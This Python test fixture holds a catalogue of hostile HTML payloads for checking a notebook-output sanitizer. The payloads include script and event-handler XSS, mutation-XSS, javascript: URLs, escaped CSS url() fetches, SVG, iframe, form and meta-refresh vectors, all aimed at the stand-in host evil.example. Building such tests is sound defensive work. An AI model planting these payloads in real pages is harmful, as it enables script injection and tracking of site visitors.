"""Hostile notebook HTML: each payload tries to run script or make the browser fetch something.

Every URL points at ``evil.example``, and only from markup, CSS or script, never as text to read;
scripts that run call ``ran(NAME)``, which a test page defines to record it.
"""
from __future__ import annotations

EVIL = "evil.example"

PAYLOADS: dict[str, str] = {
    # scripts and event handlers
    "script": "<script>ran('script')</script>",
    "script src": f'<script src="https://{EVIL}/script.js"></script>',
    "img onerror": "<img src=x onerror=\"ran('img onerror')\">",
    "svg onload": "<svg onload=\"ran('svg onload')\"></svg>",
    "details ontoggle": "<details open ontoggle=\"ran('details ontoggle')\"><summary>s</summary></details>",
    "marquee onstart": "<marquee onstart=\"ran('marquee onstart')\">m</marquee>",
    "input autofocus": "<input autofocus onfocus=\"ran('input autofocus')\">",
    "body onload": "<body onload=\"ran('body onload')\">",
    "style onload": "<style onload=\"ran('style onload')\"></style>",
    "noscript mxss": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript mxss')>\"></noscript>",
    "svg script": "<svg><script>ran('svg script')</script></svg>",
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=ran('math mxss')></style></mglyph></table></mtext></math>",
    # javascript: URLs
    "a javascript": "<a href=\"javascript:ran('a javascript')\">link</a>",
    "iframe javascript": "<iframe src=\"javascript:parent.ran('iframe javascript')\"></iframe>",
    "meta refresh javascript": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:ran('meta refresh javascript')\">",
    "form javascript": "<form action=\"javascript:ran('form javascript')\"><button>go</button></form>",
    # CSS in style attributes
    "style image-set": f"<div style=\"background:image-set('https://{EVIL}/image-set.png' 1x)\">a</div>",
    "style webkit-image-set": f"<div style=\"background:-webkit-image-set(url(https://{EVIL}/webkit.png) 1x)\">a</div>",
    "style url": f'<div style="background-image:url(https://{EVIL}/url.png)">a</div>',
    "style url escaped": f'<div style="background:\\75 rl(https://{EVIL}/escaped.png)">a</div>',
    "style property escaped": f'<div style="b\\61 ckground:url(https://{EVIL}/property-escaped.png)">a</div>',
    "style entity": f'<div style="background:url(&quot;https&#58;//{EVIL}/entity.png&quot;)">a</div>',
    "style border-image": f'<div style="border:5px solid;border-image:url(https://{EVIL}/border-image.png) 30">a</div>',
    "style border image-set": f"<div style=\"border:5px solid image-set('https://{EVIL}/border.png' 1x)\">a</div>",
    "style list-style": f'<ul style="list-style-image:url(https://{EVIL}/list.png)"><li>a</li></ul>',
    "style cursor": f'<div style="cursor:url(https://{EVIL}/cursor.png),auto">a</div>',
    "style custom property": f'<div style="--x:url(https://{EVIL}/var.png);background:var(--x)">a</div>',
    "style content": f'<div style="content:url(https://{EVIL}/content.png)">a</div>',
    "style mask": f'<div style="mask-image:url(https://{EVIL}/mask.png);-webkit-mask-image:url(https://{EVIL}/wmask.png)">a</div>',
    "style filter": f'<div style="filter:url(https://{EVIL}/filter.svg#f)">a</div>',
    "style comment split": f'<div style="background:u/**/rl(https://{EVIL}/comment.png)">a</div>',
    # style elements
    "style import": f"<style>@import url(https://{EVIL}/import.css);</style>",
    "style import string": f"<style>@import 'https://{EVIL}/import2.css';</style>",
    "style rule url": f"<style>td {{ background: url(https://{EVIL}/style-rule.png) }}</style>",
    "style font-face": f"<style>@font-face {{ font-family: x; src: url(https://{EVIL}/font.woff) }} td {{ font-family: x }}</style>",
    # SVG and MathML
    "svg image": f'<svg><image href="https://{EVIL}/svg-image.png" width="10" height="10"/></svg>',
    "svg xlink image": f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://{EVIL}/xlink.png"/></svg>',
    "svg use": f'<svg><use href="https://{EVIL}/use.svg#x"/></svg>',
    "svg feimage": f'<svg><filter id="f"><feImage href="https://{EVIL}/feimage.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    "svg in data image": ("<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
                          f"<image href='https://{EVIL}/in-data-svg.png' width='9' height='9'/></svg>\">"),
    # frames, objects, embeds
    "iframe": f'<iframe src="https://{EVIL}/iframe"></iframe>',
    "iframe srcdoc": f"<iframe srcdoc=\"<script>parent.ran('srcdoc')</script><img src=https://{EVIL}/srcdoc.png>\"></iframe>",
    "object": f'<object data="https://{EVIL}/object"></object>',
    "embed": f'<embed src="https://{EVIL}/embed">',
    "frameset": f'<frameset><frame src="https://{EVIL}/frame"></frameset>',
    # documents: refresh, base, forms, links
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/refresh">',
    "base": f'<base href="https://{EVIL}/base/"><img src="relative.png">',
    "form": f'<form action="https://{EVIL}/form" method="post"><input name="q" value="1"><button formaction="https://{EVIL}/formaction">go</button></form>',
    "input image": f'<input type="image" src="https://{EVIL}/input.png">',
    "link stylesheet": f'<link rel="stylesheet" href="https://{EVIL}/link.css">',
    "link prefetch": f'<link rel="prefetch" href="https://{EVIL}/prefetch">',
    "link preload": f'<link rel="preload" as="image" href="https://{EVIL}/preload.png">',
    "link icon": f'<link rel="icon" href="https://{EVIL}/icon.png">',
    "a ping": f'<a href="#x" ping="https://{EVIL}/ping">ping</a>',
    # images and media
    "img absolute": f'<img src="https://{EVIL}/absolute.png">',
    "img protocol relative": f"<img src=//{EVIL}/protocol-relative.png>",
    "img relative": "<img src=\"relative-file.png\">",
    "img lazy": f'<img loading="lazy" src="https://{EVIL}/lazy.png">',
    "img srcset": f'<img srcset="https://{EVIL}/srcset.png 1x">',
    "picture source": f'<picture><source srcset="https://{EVIL}/source.png"><img alt="p"></picture>',
    "background attribute": f'<table background="https://{EVIL}/table-bg.png"><tr><td background="https://{EVIL}/td-bg.png">b</td></tr></table>',
    "video poster": f'<video poster="https://{EVIL}/poster.png"></video>',
    "video source": f'<video autoplay><source src="https://{EVIL}/video.mp4"></video>',
    "audio": f'<audio autoplay src="https://{EVIL}/audio.mp3"></audio>',
    "portal": f'<portal src="https://{EVIL}/portal"></portal>',
}

# What real outputs need, and must keep.
PANDAS_TABLE = (
    '<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n'
    '<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n'
    "      <th>score</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n      <td>0.5</td>\n"
    "    </tr>\n  </tbody>\n</table>\n</div>"
)
DATA_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
